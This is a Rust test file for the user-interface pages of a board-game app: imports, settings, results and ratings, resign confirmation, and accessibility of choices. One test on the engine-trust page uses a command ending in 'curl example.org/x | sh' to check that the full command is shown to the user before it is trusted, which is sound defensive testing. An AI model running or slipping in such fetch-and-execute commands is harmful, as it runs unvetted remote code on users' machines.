//! Pages without a window: what clicks and keys ask for.

use bevy_egui::egui;
use egui::{Context, Event, Key};

use super::model::{Model, Unfinished};
use super::pages::Drafts;
use super::share::Import;
use super::{hud, pages, title};
use crate::ai::lab::arena::Plan;
use crate::ai::level::Level;
use crate::app::activities::league::{LeagueRequested, LeagueView, untrusted};
use crate::app::activities::match_play::Match;
use crate::app::core::navigation::Page;
use crate::app::core::outgoing::Arrived;
use crate::app::core::results::{Ending, ResultEntry, Results};
use crate::app::core::session::{MatchSetup, Seat, Session, TableRequested};
use crate::app::core::settings::Settings;
use crate::app::core::text::t;
use crate::app::engine::hints::HintRequested;
use crate::app::engine::thinking::Thinking;
use crate::app::games::bingo_battle::pages::SCORES;
use crate::app::games::covered::Covered;
use crate::app::games::line::BoardLine;
use crate::app::kit;
use crate::app::kit::action::Action;
use crate::app::kit::buttons::Button;
use crate::app::kit::faces::level_name;
use crate::app::kit::frames::{self, region};
use crate::app::kit::slots::PanelPart;
use crate::app::kit::stage::{SIZES, Stage};
use crate::app::kit::words::signed;
use crate::games::{GameKind, Player};
use crate::record::{AnyTerms, Terms, saved};
use crate::rules::bingo_battle::Options;
use crate::rules::bingo_battle::options::Players;
use crate::rules::bizingo::Bizingo;
use crate::rules::{Declared, Outcome, Reason};

pub(super) const ALL: [Page; 12] = [
    Page::MENU,
    Page::NEW_GAME,
    Page::SETTINGS,
    Page::HELP,
    Page::RESULT,
    Page::CONFIRM_RESIGN,
    Page::CONFIRM_DRAW,
    Page::DRAW_OFFER,
    Page::CONFIRM_LEAVE,
    Page::LEAGUE,
    Page::NEW_LEAGUE,
    Page::RESULTS,
];

/// A game after these moves.
pub(super) fn model(seats: [Seat; 2], strict: bool, moves: &[&str]) -> Model {
    let setup = MatchSetup { seats, strict, ..MatchSetup::default() };
    let mut board = setup.start();
    for text in moves {
        let mv = board.parse_move(text).unwrap();
        board.play(mv).unwrap();
    }
    let session = Session::new(setup, || Box::new(Match::default()));
    let mut model = Model::default();
    model.update(&board.into(), &session, &Thinking::default(), Covered::default());
    model.settle(true, (0, 0));
    model.at_table = true;
    model
}

pub(super) fn against_computer(moves: &[&str]) -> Model {
    model([Seat::Person, Seat::computer(3)], false, moves)
}

pub(super) fn over() -> Model {
    let outcome = Some(Outcome { winner: Some(Player::First), reason: Reason::Resignation });
    let mut model = against_computer(&["d8-e8"]);
    (model.outcome, model.to_move) = (outcome, None);
    model
}

pub(super) fn title(ctx: &Context, model: &Model) -> Vec<Action> {
    let (buttons, _) = title::areas(ctx.content_rect());
    region(ctx, "title", buttons, |ui| title::page(ui, model))
}

pub(super) fn panel(ctx: &Context, model: &Model) -> Vec<Action> {
    let place = hud::place(ctx, model);
    let line = hud::line_under_board(model, place, &BoardLine::Turn);
    let mut actions = line.map_or_else(Vec::new, |rect| region(ctx, "line", rect, |ui| hud::board_line(ui, model, "")));
    actions.extend(region(ctx, "hud", place.panel, |ui| hud::panel(ui, model, &Settings::default(), place)));
    actions
}

/// A page with a draft of its own.
pub(super) fn page(page: Page, model: &Model) -> impl FnMut(&Context) -> Vec<Action> {
    let mut draft = Drafts::default();
    move |ctx| pages::show(ctx, page, model, &Settings::default(), &mut draft)
}

#[derive(Debug)]
pub(super) struct Doorbell;

impl PanelPart for Doorbell {
    fn height(&self, _ctx: &Context, _width: f32) -> f32 {
        44.0
    }

    fn show(&self, ui: &mut egui::Ui) -> Vec<Action> {
        let pressed = Button::new("Doorbell").height(44.0).show(ui).clicked();
        if pressed { vec![Action::send_quietly(HintRequested)] } else { Vec::new() }
    }
}

/// An unfinished game of each kind, one of them on the table.
pub(super) fn three_unfinished() -> Model {
    let mut model = against_computer(&["d8-e8"]);
    let game = |setup: MatchSetup, moves| Unfinished { setup, moves };
    let azigo =
        MatchSetup { terms: AnyTerms::usual(GameKind::Azigo), seats: [Seat::Person; 2], ..MatchSetup::default() };
    let alone = Options { players: Players::One, ..Options::default() };
    let bingo = MatchSetup { terms: alone.into(), ..MatchSetup::default() };
    model.unfinished.extend([game(azigo, 12), game(bingo, 100)]);
    model
}

#[test]
fn a_text_that_is_no_game_stays_to_be_mended() {
    let model = against_computer(&["d8-e8"]);
    // Where there is less room the page scrolls.
    for (width, height) in SIZES.into_iter().filter(|(_, height)| *height > 700.0) {
        let mut stage = Stage::new(width, height);
        let mut drafts = Drafts::default();
        let draw =
            |ctx: &Context, drafts: &mut Drafts| pages::show(ctx, Page::SHARE, &model, &Settings::default(), drafts);
        let actions = stage.click("Paste", |ctx| draw(ctx, &mut drafts));
        assert!(matches!(actions[..], [Action::Send(_)]), "the page stays: {actions:?}");
        drafts.import.text = "d8-z9".to_owned();
        drafts.import.wrong = "This is not a game.".to_owned();
        let actions = stage.click("Open", |ctx| draw(ctx, &mut drafts));
        assert_eq!(actions[0].sent::<Arrived>().unwrap().0, "d8-z9");
        assert!(stage.find("This is not a game.").is_some());
        assert_eq!(drafts.import.text, "d8-z9");
        // What is said is about the text that was tried, not about what is made of it.
        stage.click("d8-z9", |ctx| draw(ctx, &mut drafts));
        stage.pass(vec![Event::Text("0".to_owned())], |ctx| draw(ctx, &mut drafts));
        stage.settle(|ctx| draw(ctx, &mut drafts));
        assert!(drafts.import.text.contains('0') && drafts.import.wrong.is_empty(), "{:?}", drafts.import);
        assert!(stage.find("This is not a game.").is_none() && stage.find("Open").is_some());
    }
}

#[test]
fn what_is_wrong_with_a_text_is_in_sight_when_the_page_opens() {
    let model = against_computer(&["d8-e8"]);
    for (width, height) in SIZES.into_iter().chain([(740.0, 360.0)]) {
        let mut stage = Stage::new(width, height);
        let import = Import { text: "d8-z9".to_owned(), wrong: "This is not a game.".to_owned(), news: true };
        let mut drafts = Drafts { import, ..Drafts::default() };
        frames::open_at_top(&stage.ctx);
        stage.settle(|ctx| pages::show(ctx, Page::SHARE, &model, &Settings::default(), &mut drafts));
        let told = stage.find("This is not a game.").unwrap();
        assert!(told.top() > 40.0 && told.bottom() < height - 10.0, "{width} x {height}: {told}");
        assert!(!drafts.import.news, "it does not hold the page there");
    }
}

#[test]
fn settings_change_one_thing_at_a_time() {
    let going = against_computer(&[]);
    let mut stage = Stage::new(1280.0, 1400.0);
    let actions = stage.click("Reduced motion", page(Page::SETTINGS, &going));
    let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
    let expected = saved::Settings { reduced_motion: Some(true), ..Default::default() };
    assert_eq!(**settings, Settings(expected));
    let actions = stage.click("Club", page(Page::SETTINGS, &going));
    let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
    assert_eq!(settings.look, crate::app::core::settings::Look::Club);
}

#[test]
fn results_are_shown_game_by_game() {
    let game = |level: u8, ending| ResultEntry {
        game: GameKind::BingoBattle,
        level: Some(level),
        second: false,
        ending,
        moves: 44,
        date: "2026-01-31".to_owned(),
        helped: level == 5,
        rules: if level == 4 { "order=free".to_owned() } else { String::new() },
        seed: Some(u64::from(level)),
    };
    let mut known = against_computer(&["d8-e8"]);
    let games = (1..=9).map(|level| game(level, if level < 5 { Ending::Won } else { Ending::Drawn })).collect();
    known.results = std::sync::Arc::new(Results(saved::Results { games, ..Default::default() }));
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let mut draw = page(Page::RESULTS, &known);
        stage.settle(&mut draw);
        assert!(stage.find("Level 3, Henrik: not played").is_some());
        let empty = stage.click("Bingo Battle", &mut draw);
        stage.settle(&mut draw);
        assert!(empty.is_empty() && stage.find("Level 3, Henrik: 1 won").is_some());
        assert!(stage.find("Level 5, Duncan: not played").is_some(), "what was taken back does not count");
        let foot = stage.find("Done").unwrap();
        assert!(foot.bottom() <= height && foot.right() <= width, "{width} x {height}: {foot:?}");
    }
    let mut stage = Stage::new(1280.0, 1400.0);
    let mut draw = page(Page::RESULTS, &known);
    stage.click("Bingo Battle", &mut draw);
    let actions = stage.click("Solo games", &mut draw);
    assert!(matches!(actions[..], [Action::Open(SCORES)]));
}

#[test]
fn a_rating_is_shown_with_its_error_and_the_next_opponent() {
    let game = |ending| ResultEntry {
        game: GameKind::Bizingo,
        level: Some(3),
        second: false,
        ending,
        moves: 44,
        date: "2026-01-31".to_owned(),
        helped: false,
        rules: String::new(),
        seed: Some(1),
    };
    let mut known = against_computer(&["d8-e8"]);
    let games = [Ending::Won, Ending::Lost, Ending::Won, Ending::Won].repeat(6).into_iter().map(game).collect();
    known.results = Results(saved::Results { games, ..Default::default() }).into();
    let (rating, change) = known.results.rating(GameKind::Bizingo).unwrap();
    let next = Level::nearest(GameKind::Bizingo, rating.value()).number();
    assert!(next >= 3 && rating.error() > 0 && !rating.is_guess());
    let about = (rating.shown(), rating.error());
    let mut stage = Stage::new(1280.0, 1400.0);
    stage.settle(page(Page::RESULTS, &known));
    let text = t!("results-rating", rating = about.0, error = about.1, level = next, name = level_name(next));
    assert!(text.contains(" ± ") && stage.find(&text).is_some(), "{text}");
    let mut over = over();
    over.results = known.results.clone();
    stage.settle(page(Page::RESULT, &over));
    let text = t!("results-rated", rating = about.0, error = about.1, change = signed(change), level = next);
    assert!(text.contains(" ± ") && stage.find(&text).is_some(), "{text}");
}

#[test]
fn resigning_is_asked_about_and_enter_is_harmless() {
    let going = against_computer(&["d8-e8"]);
    let mut draw = page(Page::CONFIRM_RESIGN, &going);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("Resign", &mut draw);
    assert!(
        matches!(actions[..], [Action::CloseAll, Action::Table(TableRequested::End(end))] if end == Declared::resignation(Player::First))
    );
    kit::ask_for_focus(&stage.ctx);
    stage.settle(&mut draw);
    assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
}

/// The end of a command may be what matters.
#[test]
fn a_program_of_a_file_is_shown_with_its_whole_command_and_enter_is_harmless() {
    let command = "/home/a-friend/engines/bizingo-engine --threads 2 --log /tmp/log; curl example.org/x | sh";
    let plan = Plan::<Bizingo> {
        seed: 1,
        opening: 0,
        games: 2,
        ..Plan::of([&format!("ugi:{command}"), "random"].map(|spec| spec.parse().unwrap()).to_vec())
    };
    let league = LeagueView { plan: Some(plan.into()), threads: 2, ..LeagueView::default() };
    let mut model = Model::default();
    model.league = league.into();
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        let mut draw = page(Page::CONFIRM_ENGINES, &model);
        stage.settle(&mut draw);
        assert!(stage.find(command).is_some(), "{width} x {height}");
        kit::ask_for_focus(&stage.ctx);
        stage.settle(&mut draw);
        assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
        let actions = stage.click("Start them", &mut draw);
        assert!(matches!(&actions[..], [Action::Close, go] if matches!(go.sent(), Some(LeagueRequested::Trust(2)))));
    }
    // What was agreed to before is not asked about again.
    let known = Settings(saved::Settings { engines: vec![command.to_owned()], ..Default::default() });
    assert!(untrusted(model.league.plan.as_ref().unwrap(), &known).is_empty());
}

#[test]
fn games_played_alone_lead_to_their_scores() {
    let fresh = Model::default();
    let mut drafts = Drafts::default();
    drafts.game.setup.terms = Options { players: Players::One, ..Options::default() }.into();
    let mut stage = Stage::new(1280.0, 800.0);
    let mut draw = |ctx: &Context| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut drafts);
    assert!(matches!(stage.click("Scores", &mut draw)[..], [Action::Open(SCORES)]));
}

/// A game of Bingo Battle after these moves, between two people.
pub(super) fn bingo(start: &str, moves: &[&str]) -> Model {
    let position = Some(start.parse().unwrap());
    let terms = AnyTerms::BingoBattle(Terms { position, ..Terms::default() });
    let setup = MatchSetup { seats: [Seat::Person; 2], terms, ..MatchSetup::default() };
    let mut board = setup.start();
    for text in moves {
        let mv = board.parse_move(text).unwrap();
        board.play(mv).unwrap();
    }
    let session = Session::new(setup, || Box::new(Match::default()));
    let mut model = Model::default();
    model.update(&board.into(), &session, &Thinking::default(), Covered::default());
    model.settle(true, (0, 0));
    model.at_table = true;
    model
}

#[test]
fn the_lessons_of_every_game_fit_every_size() {
    let fresh = Model::default();
    for (width, height) in SIZES {
        for about in GameKind::ALL {
            let mut drafts = Drafts { about, ..Drafts::default() };
            let mut stage = Stage::new(width, height);
            stage.settle(|ctx: &Context| pages::show(ctx, Page::HELP, &fresh, &Settings::default(), &mut drafts));
            let foot = stage.find("Done").unwrap();
            assert!(foot.bottom() <= height && foot.right() <= width, "{about} {width} x {height}: {foot:?}");
        }
    }
}

#[test]
fn who_only_hears_a_choice_knows_what_it_is_about() {
    for model in [against_computer(&[]), model([Seat::computer(1), Seat::computer(2)], false, &[])] {
        for open in ALL {
            let mut stage = Stage::new(1280.0, 4000.0);
            stage.settle(page(open, &model));
            let mut choices = stage.choices();
            choices.sort();
            let twice: Vec<_> = choices.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| &pair[0]).collect();
            assert!(twice.is_empty(), "{open:?} has choices that cannot be told apart: {twice:?}");
            let alone: Vec<_> = choices.iter().filter(|(group, _)| group.is_none()).collect();
            assert!(alone.is_empty(), "{open:?} has choices without the name of their group: {alone:?}");
            if open == Page::NEW_GAME {
                assert!(choices.contains(&(Some("Who plays?".to_owned()), "Two players".to_owned())), "{choices:?}");
            }
        }
    }
}
